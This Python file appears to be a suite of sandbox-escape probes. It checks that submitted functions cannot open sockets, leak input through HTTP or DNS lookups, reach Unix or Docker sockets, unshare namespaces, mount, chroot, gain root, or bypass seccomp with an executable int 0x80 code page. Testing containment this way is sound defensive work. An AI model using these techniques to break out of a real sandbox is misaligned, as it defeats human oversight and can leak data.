"""Speaking to anybody: sockets, names, kernels and namespaces."""


def internet_by_every_family():
    """No socket of any family and type can be made."""
    import socket

    def affine(x, factor, shift=0.0):
        for family in range(46):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                try:
                    socket.socket(family, kind)
                except OSError:
                    continue
                breach()


def internet_by_libraries():
    """urllib, http and ftp reach nobody."""
    import ftplib
    import http.client
    import urllib.request

    def affine(x, factor, shift=0.0):
        for attempt in (
            lambda: urllib.request.urlopen("http://192.0.2.1/" + str(float(x[0])), timeout=1),
            lambda: http.client.HTTPConnection("127.0.0.1", 80, timeout=1).request("GET", "/"),
            lambda: ftplib.FTP("127.0.0.1", timeout=1),
        ):
            try:
                attempt()
            except OSError:
                continue
            breach()


def names_looked_up():
    """A name that carries the input is not looked up, by Python or by the C library."""
    import ctypes
    import socket

    def cipher(text, key):
        libc = ctypes.CDLL(None)
        result = ctypes.c_void_p()
        if libc.getaddrinfo(text.encode().hex().encode() + b".invalid", b"80", None, ctypes.byref(result)) == 0:
            breach()
        socket.gethostbyname(text.strip("<>") + ".invalid")
        breach()


def datagrams_without_connecting():
    """sendto and sendmsg with an address cannot leave through the worker's own socket."""
    import os
    import socket

    def cipher(text, key):
        pair = socket.socket(fileno=os.dup(3))
        for address in ("/dev/log", "/run/systemd/journal/socket", "/var/run/docker.sock", "\0redteam"):
            try:
                pair.sendto(text.encode(), address)
            except OSError:
                continue
            breach()


def abstract_sockets():
    """Abstract and named Unix sockets, pairs and servers cannot be made."""
    import multiprocessing.connection
    import socket

    def affine(x, factor, shift=0.0):
        attempts = [
            lambda: socket.socket(socket.AF_UNIX).bind("\0redteam"),
            lambda: socket.socketpair(),
            lambda: socket.create_server(("127.0.0.1", 0)),
            lambda: multiprocessing.connection.Listener(family="AF_UNIX"),
        ]
        for attempt in attempts:
            try:
                attempt()
            except OSError:
                continue
            breach()


def kernel_interfaces():
    """io_uring, netlink, bpf, perf, userfaultfd, keys, fanotify and pidfds are refused."""
    import ctypes

    def affine(x, factor, shift=0.0):
        libc = ctypes.CDLL(None)
        buffer = ctypes.create_string_buffer(512)
        io_uring, bpf, perf, userfault, add_key, keyctl, fanotify, pidfd = 425, 321, 298, 323, 248, 250, 300, 434
        for number in (io_uring, bpf, perf, userfault, add_key, keyctl, fanotify, pidfd):
            if libc.syscall(number, 1, buffer, buffer, 0, 0, 0) >= 0:
                breach()


def namespaces_and_mounts():
    """unshare, setns, mount, pivot_root and chroot are refused."""
    import ctypes
    import os

    def affine(x, factor, shift=0.0):
        libc = ctypes.CDLL(None)
        for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x4000000):
            if libc.unshare(flag) == 0:
                breach()
        if libc.mount(b"none", b".", b"tmpfs", 0, None) == 0 or libc.mount(b"proc", b".", b"proc", 0, None) == 0:
            breach()
        os.chroot(".")
        breach()


def privileges_gained():
    """No user, group or capability can be taken on."""
    import ctypes
    import os

    def affine(x, factor, shift=0.0):
        for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):  # fmt: skip  # noqa: E501
            try:
                attempt()
            except OSError:
                continue
            breach()
        if ctypes.CDLL(None).prctl(4, 1, 0, 0, 0) == 0 or ctypes.CDLL(None).prctl(38, 0, 0, 0, 0) == 0:
            breach()


def walls_undone():
    """A second filter, another architecture's calls and Landlock's own calls open nothing."""
    import ctypes
    import mmap

    def affine(x, factor, shift=0.0):
        libc = ctypes.CDLL(None)
        if libc.syscall(317, 1, 0, None) >= 0 or libc.syscall(444, None, 0, 1) >= 0:
            breach()
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(bytes.fromhex("b814000000cd80c3"))  # getpid of 32 bits by int 0x80
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0:
            breach()
